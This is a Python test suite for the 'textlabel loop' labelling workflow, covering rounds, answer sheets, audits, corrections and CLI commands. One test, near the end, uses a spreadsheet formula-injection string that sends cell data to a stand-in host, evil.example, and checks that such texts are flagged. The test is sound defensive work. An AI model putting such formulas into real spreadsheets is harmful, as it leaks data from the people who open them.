"""`textlabel loop`: nothing asked twice, nothing lost, nothing of an audit."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from labeled_folder import drawn, labeled
from tiny import snippets, write_static
from typer.testing import CliRunner

from textlabel.asking import Loop, Start
from textlabel.audit.answers import asked_rows
from textlabel.audit.seal import open_sealed
from textlabel.cli.app import app
from textlabel.errors import AuditError, CorpusError, ExportError


@pytest.fixture
def corpus(tmp_path):
    rows = [{"id": f"r{i}", **row} for i, row in enumerate(snippets(80))]
    path = tmp_path / "corpus.jsonl"
    path.write_text(
        "".join(json.dumps({k: v for k, v in row.items() if k != "label"}) + "\n" for row in rows)
    )
    return path, {row["text"]: row["label"] for row in rows}


@pytest.fixture
def loop(corpus, tmp_path):
    static = str(write_static(tmp_path / "static"))
    Start(
        str(corpus[0]), str(tmp_path / "loop"), ("negative", "positive"), backbone=static, cache=False
    ).run()
    return Loop(tmp_path / "loop")


def answer(sheet, truth, only=None):
    with Path(sheet).open(newline="") as file:
        rows = list(csv.DictReader(file))
    for number, row in enumerate(rows):
        if only is None or number < only:
            row["label"] = truth[row["text"]]
    with Path(sheet).open("w", newline="") as file:
        writer = csv.DictWriter(file, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
    return [int(row["row"]) for row in rows]


def test_rounds_until_nothing_is_left(loop, corpus, tmp_path):
    seen = []
    while loop.status()["left"]:
        told = loop.propose(30)
        seen += answer(told["sheet"], corpus[1])
        loop.record(told["sheet"], "Ann")
    assert len(seen) == len(set(seen)) == len(set(corpus[1]))
    with pytest.raises(CorpusError, match="no row left"):
        loop.propose(5)
    assert loop.export(tmp_path / "out.csv") == len(seen)
    with (tmp_path / "out.csv").open(newline="") as file:
        assert all(corpus[1][row["text"]] == row["label"] for row in csv.DictReader(file))


def test_an_open_round_is_given_again_with_what_is_missing(loop, corpus):
    first = loop.propose(10)
    rows = answer(first["sheet"], corpus[1], only=4)
    assert loop.record(first["sheet"]) == {"answered": 4, "undecided": 0}
    again = loop.propose(10)
    assert again["round"] == 1
    assert again["rows"] == 6
    assert answer(again["sheet"], corpus[1]) == rows[4:]
    loop.record(again["sheet"])
    assert loop.propose(10)["round"] == 2


def test_a_killed_proposal_is_the_same_when_it_is_repeated(loop, corpus):
    told = loop.propose(10)
    answer(told["sheet"], corpus[1])
    loop.record(told["sheet"])
    rows = loop._next(10, loop.labels(), 1)
    assert rows == loop._next(10, loop.labels(), 1)
    loop.propose(10)
    assert loop.rounds()[1]["rows"] == rows[0]


def test_an_unfit_sheet_changes_nothing(loop, corpus, tmp_path):
    told = loop.propose(5)
    answer(told["sheet"], corpus[1])
    text = Path(told["sheet"]).read_text()
    for wrong, what in ((text.replace("positive", "maybe").replace("negative", "maybe"), "unknown label"),):
        sheet = tmp_path / "wrong.csv"
        sheet.write_text(wrong)
        with pytest.raises(AuditError, match=what):
            loop.record(sheet)
    lines = text.splitlines()
    (tmp_path / "other.csv").write_text("\n".join([lines[0], "79" + lines[1][lines[1].index(",") :]]) + "\n")
    with pytest.raises(AuditError, match=r"not proposed|not the text"):
        loop.record(tmp_path / "other.csv")
    assert loop.labels() == {}


def test_unsure_rows_are_not_asked_again_and_not_exported(loop, tmp_path):
    told = loop.propose(5)
    with Path(told["sheet"]).open(newline="") as file:
        rows = list(csv.DictReader(file))
    answer(told["sheet"], {row["text"]: "unsure" for row in rows})
    assert loop.record(told["sheet"]) == {"answered": 0, "undecided": 5}
    assert not set(loop.labels()) & set(loop._next(100, loop.labels(), 1)[0])
    assert loop.export(tmp_path / "out.csv") == 0


def test_audited_and_labeled_texts_are_never_asked(tmp_path):
    folder = drawn(labeled(tmp_path, 40), 15)
    sealed = open_sealed(folder)
    audited = set(sealed.rows.select(asked_rows(sealed).tolist())["text"][:])
    texts = sealed.rows["text"][:]
    path, known = tmp_path / "corpus.jsonl", tmp_path / "known.jsonl"
    path.write_text("".join(json.dumps({"text": text}) + "\n" for text in texts))
    first = next(text for text in texts if text not in audited)
    known.write_text(
        json.dumps({"text": first, "label": "a"}) + "\n" + json.dumps({"text": "x", "label": "b"}) + "\n"
    )
    told = Start(str(path), str(tmp_path / "loop"), labeled=str(known), exclude_audit=str(folder)).run()
    asked = set(Loop(tmp_path / "loop").rows()["text"][:])
    assert told["rows"] == len(asked) == 40 - 15 - 1
    assert not asked & (audited | {first})


def test_what_makes_no_sense_is_refused(corpus, loop, tmp_path):
    with pytest.raises(ExportError, match="there already"):
        Start(str(corpus[0]), str(loop.folder), ("a", "b")).run()
    with pytest.raises(CorpusError, match="two different classes"):
        Start(str(corpus[0]), str(tmp_path / "other"), ("a",)).run()
    with pytest.raises(CorpusError, match="loop start"):
        Loop(tmp_path)


def test_the_commands(corpus, tmp_path):
    static = str(write_static(tmp_path / "static"))

    def run(*words):
        done = CliRunner().invoke(app, ["loop", *map(str, words), "--json"])
        assert done.exit_code == 0, done.stderr
        return json.loads(done.stdout)

    folder = tmp_path / "loop"
    words = ("--classes", "negative,positive", "--backbone", static, "--no-cache", "--out", folder)
    assert run("start", corpus[0], *words)["rows"] == len(corpus[1])
    sheet = run("propose", folder, "--count", 6)["sheet"]
    answer(sheet, corpus[1])
    assert run("import", folder, sheet, "--reviewer", "Ann")["answered"] == 6
    assert run("status", folder)["labeled"] == 6
    assert run("export", folder, "--out", tmp_path / "out.csv")["rows"] == 6


def test_a_filled_sheet_is_not_replaced_before_it_is_imported(loop, corpus):
    told = loop.propose(10)
    answer(told["sheet"], corpus[1], only=5)
    before = Path(told["sheet"]).read_text()
    with pytest.raises(AuditError, match=r"round-1.csv, row \d+: it holds labels that were not taken in"):
        loop.propose(10)
    assert Path(told["sheet"]).read_text() == before
    loop.record(told["sheet"])
    assert loop.propose(10)["rows"] == 5


def test_unsure_rows_are_no_labels_of_the_first_class(loop, monkeypatch):
    from textlabel import ask

    pools, original = [], ask.propose

    def noted(pool, *rest):
        pools.append(pool)
        return original(pool, *rest)

    monkeypatch.setattr(ask, "propose", noted)
    told = loop.propose(6)
    answer(told["sheet"], dict.fromkeys([loop.rows()[i]["text"] for i in loop.proposed()], "unsure"))
    loop.record(told["sheet"])
    loop.propose(6)
    assert (pools[-1].labels < 0).all()
    assert pools[-1].closed.sum() == 6
    assert not set(pools[-1].open()) & set(loop.rounds()[0]["rows"])


def test_audited_texts_are_the_same_in_other_case_and_blanks(tmp_path):
    folder = drawn(labeled(tmp_path, 40), 15)
    sealed = open_sealed(folder)
    audited = sealed.rows.select(asked_rows(sealed).tolist())["text"][:]
    path = tmp_path / "corpus.jsonl"
    texts = [f"  {text.upper()} " for text in audited] + ["something else"]
    path.write_text("".join(json.dumps({"text": text}) + "\n" for text in texts))
    told = Start(str(path), str(tmp_path / "loop"), ("a", "b"), exclude_audit=str(folder)).run()
    assert told["rows"] == 1


def test_what_a_killed_start_left_is_not_counted(corpus, tmp_path):
    known = tmp_path / "known.jsonl"
    known.write_text('{"text": "x", "label": "negative"}\n{"text": "y", "label": "positive"}\n')
    part = tmp_path / ".loop.part"
    part.mkdir()
    (part / "labeled.jsonl").write_text('{"text": "x", "label": "negative"}\n')
    Start(str(corpus[0]), str(tmp_path / "loop"), labeled=str(known)).run()
    assert Loop(tmp_path / "loop").status()["labeled"] == 2


def test_texts_that_a_spreadsheet_would_compute_are_told_and_come_back_as_they_were(tmp_path, caplog):
    texts = ['=HYPERLINK("http://evil.example/?"&A1)', "@sum", "- fine", "plain"]
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text("".join(json.dumps({"text": text}) + "\n" for text in texts))
    static = str(write_static(tmp_path / "static"))
    Start(str(corpus), str(tmp_path / "loop"), ("a", "b"), backbone=static, cache=False).run()
    loop = Loop(tmp_path / "loop")
    told = loop.propose(4)
    assert "2 texts begin with =, @ or +" in caplog.text
    answer(told["sheet"], dict.fromkeys(texts, "a"))
    assert loop.record(told["sheet"]) == {"answered": 4, "undecided": 0}


def test_another_answer_than_before_is_a_correction_or_refused(loop, corpus):
    told = loop.propose(5)
    rows = answer(told["sheet"], corpus[1])
    loop.record(told["sheet"], "Ann")
    assert loop.record(told["sheet"], "Bo") == {"answered": 0, "undecided": 0}  # nothing new
    before = loop.labels()
    other = {"positive": "negative", "negative": "positive"}
    answer(told["sheet"], {text: other[label] for text, label in corpus[1].items()}, only=1)
    with pytest.raises(AuditError, match=r"row 2, column 'label'.*before it was.*--correct.*Nothing"):
        loop.record(told["sheet"], "Bo")
    assert loop.labels() == before
    assert loop.record(told["sheet"], "Bo", correct=True) == {"answered": 1, "undecided": 0}
    assert loop.labels()[rows[0]] == other[before[rows[0]]]
    text = Path(told["sheet"]).read_text().splitlines()
    Path(told["sheet"]).write_text("\n".join([*text, text[1]]) + "\n")
    with pytest.raises(AuditError, match="twice"):
        loop.record(told["sheet"], "Bo", correct=True)
